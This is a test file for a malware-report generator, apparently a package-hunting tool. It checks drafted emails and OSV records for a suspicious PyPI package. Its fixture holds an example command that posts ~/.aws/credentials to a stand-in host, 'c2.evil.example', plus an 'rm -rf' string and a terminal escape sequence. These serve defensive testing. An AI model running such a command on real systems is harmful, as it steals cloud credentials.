import assert from 'node:assert/strict';
import { test } from 'node:test';
import { cmd, conn, dns, file, own, PIP, record } from '../detect/_test-helpers.ts';
import type { BehaviourRecord, Finding } from '../record/schema.ts';
import { OsvRecord } from './osv-schema.ts';
import { projectPageUrl } from './project-url.ts';
import { renderReportDraft } from './render-report-draft.ts';

const SHA = 'ab'.repeat(32);

function finding(rule: string, pointer: string): Finding {
  return {
    rule,
    severity: 'critical',
    title: `title of ${rule}`,
    attack: 'T1041',
    phase: 'install',
    culprit: { kind: 'package', distribution: 'pkg' },
    evidence: [{ pointer, text: 'evidence text' }],
    points: 100,
  };
}

function evil(level: 'malicious' | 'clean' = 'malicious'): BehaviourRecord {
  const r = record({
    install: {
      connections: [
        conn('c2.evil.example', '127.53.0.9', 443, {
          // Escaped by the sinkhole already; a raw escape sequence and a backtick must not survive either.
          preview: `POST /x token=tok \x1b[2J \`rm -rf\` ${'A'.repeat(600)}`,
          by: [own()],
        }),
        conn('c2.evil.example', '127.53.0.9', 443, { preview: 'again', by: [own()] }),
      ],
      dns: [dns('c2.evil.example', [own()]), dns('c2.evil.example', [own()]), dns('pip-only.example', [PIP])],
      commands: [
        cmd(['/usr/bin/python3', '-m', 'pip', 'install', 'pkg'], { by: PIP }),
        cmd(['sh', '-c', "curl -d @$HOME/.aws/credentials https://c2.evil.example/'x'"], { by: own() }),
        cmd(['sh', '-c', "curl -d @$HOME/.aws/credentials https://c2.evil.example/'x'"], { by: own() }),
      ],
      files: [file('/home/builder/.bashrc', ['write'], { by: [own()] })],
      canaries: [
        { canary: 'aws-credentials', how: 'sent', evidence: 'sent to c2.evil.example', by: [own()] },
      ],
    },
    import: {
      commands: [cmd(['/opt/venv/bin/python', '-c', 'import pkg'], { by: own() })],
      modules: [{ module: 'pkg', status: 'ok', error: null, duration_ms: 1 }],
    },
  });
  r.finished_at = '2024-05-01T10:20:30.456Z';
  r.package.artifact = { filename: 'pkg-1.0.tar.gz', sha256: SHA, size: 1234 };
  r.verdict = {
    level,
    score: level === 'clean' ? 3 : 100,
    findings: level === 'clean' ? [] : [finding('canary.exfil', '/phases/install/canaries/0')],
    static_files: 1,
    population_adjusted: false,
  };
  return r;
}

test('the email names what it contacts, sends, runs and touches, with the artifact hash', () => {
  const { email, warnings } = renderReportDraft(evil(), { to: 'security@index.example' });
  assert.match(email, /^To: security@index\.example\nSubject: Malware report: pkg 1\.0 \(PyPI\)\n/);
  assert.ok(email.includes('c2.evil.example:443 (127.53.0.9) during install, 2 connections'));
  assert.ok(email.includes(`sha256: ${SHA}`));
  assert.ok(email.includes('pkg-1.0.tar.gz'));
  assert.ok(email.includes('canary.exfil'));
  assert.ok(email.includes('aws-credentials [sent]'));
  assert.ok(email.includes('canary token of this run: tok'));
  assert.ok(email.includes('write /home/builder/.bashrc'));
  // Folded with a count, quoted as a shell would need it.
  assert.ok(
    email.includes(`(x2): sh -c 'curl -d @$HOME/.aws/credentials https://c2.evil.example/'\\''x'\\'''`),
  );
  assert.ok(!email.includes('-m pip install'), "pip's own command is left out");
  assert.ok(!email.includes('import pkg'), 'the import probe is left out');
  assert.ok(!email.includes('pip-only.example'), "pip's own DNS is left out");
  assert.ok(!email.includes('\x1b'), 'no raw control character');
  assert.ok(email.includes('\\x1b[2J'));
  assert.ok(!email.includes('A'.repeat(300)), 'previews are cut');
  assert.deepEqual(warnings, []);
});

test('the OSV record validates, with the placeholder id, versions, origins and the evidence in details', () => {
  const { osv } = renderReportDraft(evil(), { indexUrl: 'https://mirror.example/pypi/simple/' });
  const parsed = OsvRecord.parse(osv);
  assert.equal(parsed.id, 'MAL-0000-pkghunt-pkg-1.0');
  assert.equal(parsed.schema_version, '1.5.0');
  assert.equal(parsed.published, '2024-05-01T10:20:30Z');
  assert.equal(parsed.summary, 'Malicious code in pkg (PyPI)');
  assert.deepEqual(parsed.affected, [{ package: { ecosystem: 'PyPI', name: 'pkg' }, versions: ['1.0'] }]);
  assert.deepEqual(parsed.references, [
    { type: 'PACKAGE', url: 'https://mirror.example/pypi/project/pkg/1.0/' },
  ]);
  const origin = parsed.database_specific['malicious-packages-origins'][0];
  assert.equal(origin?.source, 'pkghunt');
  assert.equal(origin?.sha256, SHA);
  assert.deepEqual(origin?.versions, ['1.0']);
  assert.match(parsed.details, /as malicious \(score 100\/100\)/);
  assert.match(parsed.details, /title of canary\.exfil \(canary\.exfil, critical, install, ATT&CK T1041\)/);
  assert.match(parsed.details, /`c2\.evil\.example:443 \(127\.53\.0\.9\)` \(2 connections\)/);
  assert.ok(!parsed.details.includes('`rm -rf`'), 'a backtick cannot close the code span');
  assert.ok(parsed.details.includes(SHA));
});

test('options: --id, contact placeholder, clean verdict and unknown version warn; file:// has no page', () => {
  const clean = renderReportDraft(evil('clean'), { id: 'MAL-2024-99', indexUrl: 'file:///srv/index/' });
  assert.equal(clean.osv.id, 'MAL-2024-99');
  assert.equal(clean.osv.references, undefined);
  assert.ok(clean.email.startsWith("To: <the index's security contact — set PKGHUNT_SECURITY_CONTACT>\n"));
  assert.ok(clean.warnings.some((w) => w.includes('CLEAN')));
  assert.ok(clean.warnings.some((w) => w.includes('PKGHUNT_SECURITY_CONTACT')));

  const noVersion = evil();
  noVersion.package.version = null;
  noVersion.package.artifact = null;
  const draft = renderReportDraft(noVersion, { to: 'a@b' });
  const osv = OsvRecord.parse(draft.osv);
  assert.deepEqual(osv.affected[0]?.ranges, [{ type: 'ECOSYSTEM', events: [{ introduced: '0' }] }]);
  assert.equal(osv.database_specific['malicious-packages-origins'][0]?.sha256, undefined);
  assert.ok(draft.warnings.some((w) => w.includes('no version')));
  assert.ok(draft.warnings.some((w) => w.includes('no artifact')));
});

test('the OSV schema rejects what the database would', () => {
  const { osv } = renderReportDraft(evil(), {});
  assert.equal(OsvRecord.safeParse({ ...osv, id: 'GHSA-1' }).success, false);
  assert.equal(OsvRecord.safeParse({ ...osv, affected: [] }).success, false);
  assert.equal(OsvRecord.safeParse({ ...osv, published: '2024-05-01' }).success, false);
  assert.equal(OsvRecord.safeParse({ ...osv, extra: 1 }).success, false);
  assert.equal(
    OsvRecord.safeParse({ ...osv, affected: [{ package: { ecosystem: 'npm', name: 'x' }, versions: ['1'] }] })
      .success,
    false,
  );
});

test('project page from the index URL', () => {
  assert.equal(
    projectPageUrl('https://u:p@idx.example/simple/', 'Foo_Bar', '2.0'),
    'https://idx.example/project/foo-bar/2.0/',
  );
  assert.equal(projectPageUrl('https://idx.example/other', 'foo', '1'), 'https://idx.example/other/foo/');
  assert.equal(projectPageUrl('file:///tmp/x/simple/', 'foo', '1'), null);
  assert.equal(projectPageUrl('not a url', 'foo', '1'), null);
});
